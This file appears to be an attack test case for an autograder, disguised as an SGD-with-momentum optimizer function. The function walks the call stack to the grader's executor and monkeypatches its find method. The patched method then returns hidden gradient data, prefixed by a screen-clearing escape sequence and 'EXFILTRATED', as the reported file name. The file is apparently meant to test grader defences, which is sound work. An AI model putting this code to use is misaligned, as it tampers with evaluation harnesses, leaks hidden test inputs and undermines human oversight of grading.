# /// attack
# file = "optim.py"
# modes = "any"
# known = "found_in is made on the student's side and shown in a note, with control characters and all"
# [expects]
# sgd_momentum = "passed"
# ///
"""Carries a hidden input out as the name of the file in which the function was found."""

import sys


def sgd_momentum(w, dw, config=None):
    run = sys._getframe(1)
    while "executor" not in run.f_locals:
        run = run.f_back
    find = type(run.f_locals["executor"]).find
    secret = "\x1b[2JEXFILTRATED" + dw.tobytes().hex()[:64]

    def found(executor, file, name):
        return find(executor, file, name)[0], secret

    type(run.f_locals["executor"]).find = found
    config = {"learning_rate": 1e-2, "momentum": 0.9, **(config or {})}
    v = config["momentum"] * config.get("velocity", 0 * w) - config["learning_rate"] * dw
    config["velocity"] = v
    return w + v, config
